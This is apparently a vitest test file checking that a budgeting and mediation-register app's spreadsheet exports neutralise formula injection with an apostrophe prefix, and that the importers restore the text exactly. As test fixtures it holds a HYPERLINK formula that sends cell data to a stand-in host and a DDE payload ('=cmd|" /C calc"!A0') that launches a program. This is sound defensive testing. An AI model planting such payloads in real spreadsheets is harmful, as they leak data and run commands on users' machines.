import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TGoalBook } from '../../src/contract/goal-book.js';
import { readGoalDocument } from '../../src/documents/read-goal-document.js';
import { createTestApp, type Session, type TestApp } from '../helpers/app.js';
import { sampleGoalBook, withoutWarnings } from '../helpers/fixtures.js';
import { multipart } from '../helpers/multipart.js';

/**
 * Issue 13.7: text beginning with = + - @ is written to every spreadsheet export with an apostrophe in
 * front (so a re-save as CSV cannot run it), and every importer removes exactly that apostrophe, so an
 * export imports back exactly.
 */

let t: TestApp;
let finance: Session;
let office: Session;
let leader: Session;
const U = '/api/units/315002';
const BASE = `${U}/years/2022`;
const DISPUTES = `${U}/registers/mediation/disputes`;
const LINK = '=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")';

interface Cell {
  sheet: string;
  address: string;
  text: string | null;
  formula: boolean;
}

/** every cell of a workbook, as its raw stored value */
async function cellsOf(bytes: Buffer): Promise<Cell[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const cells: Cell[] = [];
  for (const ws of workbook.worksheets) {
    ws.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell({ includeEmpty: false }, (cell) => {
        const v = cell.value;
        const text = typeof v === 'string' ? v : v && typeof v === 'object' && 'richText' in v ? v.richText.map((r) => r.text).join('') : null;
        cells.push({ sheet: ws.name, address: cell.address, text, formula: cell.type === ExcelJS.ValueType.Formula });
      }),
    );
  }
  return cells;
}

/** no text cell a spreadsheet program would take for a formula */
function expectGuarded(cells: Cell[], label: string) {
  expect(cells.length, label).toBeGreaterThan(0);
  for (const c of cells) {
    expect(c.formula, `${label} ${c.sheet}!${c.address}`).toBe(false);
    if (c.text !== null) expect(c.text, `${label} ${c.sheet}!${c.address}`).not.toMatch(/^[=+\-@\t\r]/);
  }
}
const texts = (cells: Cell[]) => cells.map((c) => c.text);

function hostileBook(): TGoalBook {
  const book = sampleGoalBook();
  const project = book.projects[0]!;
  project.name = LINK;
  project.goals[0] = '-减少群众诉讼成本';
  project.indicators[0]!.name = '+新增法律援助案件';
  project.indicators[0]!.basis = '@司法部文件';
  project.indicators[1]!.description = "'=不是公式";
  book.departmentGoals.overall[0] = '-完善公共法律服务体系';
  return book;
}

beforeAll(async () => {
  t = await createTestApp();
  [finance, office, leader] = await Promise.all([t.login('finance'), t.login('office'), t.login('leader')]);
  const stored = await t.as(finance, { method: 'POST', url: '/api/goal-books', payload: hostileBook() as unknown as Record<string, unknown> });
  expect(stored.statusCode, stored.body).toBe(200);
});
afterAll(() => t.close());

describe('the goal book (.xlsx)', () => {
  it('prefixes formula-like text and imports back exactly', async () => {
    const res = await t.as(finance, { method: 'GET', url: `${BASE}/export?format=xlsx` });
    expect(res.statusCode).toBe(200);
    const cells = await cellsOf(res.rawPayload);
    expectGuarded(cells, 'goal book');
    for (const text of [`'${LINK}`, "'+新增法律援助案件", "'@司法部文件", "''=不是公式", '≥95%']) expect(texts(cells), text).toContain(text);
    // a goal is written numbered ("1.-减少…"): not formula-like, so as it is
    expect(texts(cells).some((text) => text?.startsWith('1.-减少群众诉讼成本'))).toBe(true);
    // negative and other amounts stay numbers
    expect(cells.some((c) => c.text === null)).toBe(true);

    const stored = (await t.as(finance, { method: 'GET', url: `${BASE}/goal-book` })).json() as TGoalBook;
    expect(withoutWarnings(await readGoalDocument(res.rawPayload))).toEqual(withoutWarnings(stored));
    expect(stored.projects[0]!.name).toBe(LINK);
    expect(stored.projects[0]!.indicators[1]!.description).toBe("'=不是公式");
  });
});

describe('the other exports', () => {
  it('the review (审核意见表)', async () => {
    expect((await t.as(leader, { method: 'POST', url: `${BASE}/review/comments`, payload: { text: '=1+1 请核实' } })).statusCode).toBe(200);
    const res = await t.as(finance, { method: 'GET', url: `${BASE}/review/export?format=xlsx` });
    expect(res.statusCode).toBe(200);
    const cells = await cellsOf(res.rawPayload);
    expectGuarded(cells, 'review');
    expect(texts(cells)).toContain("'=1+1 请核实");
  });

  it('the payments template (project list)', async () => {
    const res = await t.as(finance, { method: 'GET', url: `${BASE}/payments/template` });
    const cells = await cellsOf(res.rawPayload);
    expectGuarded(cells, 'payments template');
    expect(texts(cells)).toContain(`'${LINK}`);
  });

  it('the register template', async () => {
    const res = await t.as(office, { method: 'GET', url: `${DISPUTES}/template` });
    expectGuarded(await cellsOf(res.rawPayload), 'register template');
  });

  it('the register export, which imports back with the same text', async () => {
    const record = { office: '胡家坨司法所', disputeType: '邻里', receivedOn: '2022-04-01', committee: '-胡家坨村调委会', mediator: '@张调解', summary: '=cmd|" /C calc"!A0' };
    const created = await t.as(office, { method: 'POST', url: `${DISPUTES}/records`, payload: record });
    expect(created.statusCode, created.body).toBe(200);
    const res = await t.as(office, { method: 'GET', url: `${DISPUTES}/export?year=2022` });
    expect(res.statusCode).toBe(200);
    const cells = await cellsOf(res.rawPayload);
    expectGuarded(cells, 'register export');
    expect(texts(cells)).toEqual(expect.arrayContaining(["'-胡家坨村调委会", "'@张调解", `'${record.summary}`]));

    const preview = await t.as(office, { method: 'POST', url: `${DISPUTES}/import/preview`, ...multipart('导出.xlsx', res.rawPayload) });
    expect(preview.statusCode, preview.body).toBe(200);
    expect(preview.json().problems).toEqual([]);
    expect(preview.json().sample).toEqual(expect.arrayContaining([expect.objectContaining({ committee: record.committee, mediator: record.mediator, summary: record.summary })]));
  });
});

describe('the importers', () => {
  it('remove the prefix from payment cells, .xlsx and .csv alike', async () => {
    const P1 = '13022522P000R24100085';
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('支付明细').addRows([
      ['项目编码', '支付日期', '金额（元）', '凭证号', '收款方', '摘要'],
      [P1, '2022-02-15', 100, "'-1", "'=某公司", "'@摘要"],
    ]);
    const xlsx = Buffer.from(await workbook.xlsx.writeBuffer());
    const csv = Buffer.from(`项目编码,支付日期,金额（元）,凭证号,收款方,摘要\r\n${P1},2022-02-15,100,'-1,'=某公司,'@摘要\r\n`);
    for (const [name, bytes] of [['p.xlsx', xlsx], ['p.csv', csv]] as const) {
      const res = await t.as(finance, { method: 'POST', url: `${BASE}/payments/import/preview`, ...multipart(name, bytes) });
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json().rows[0], name).toMatchObject({ voucherNo: '-1', payee: '=某公司', summary: '@摘要' });
    }
  });
});
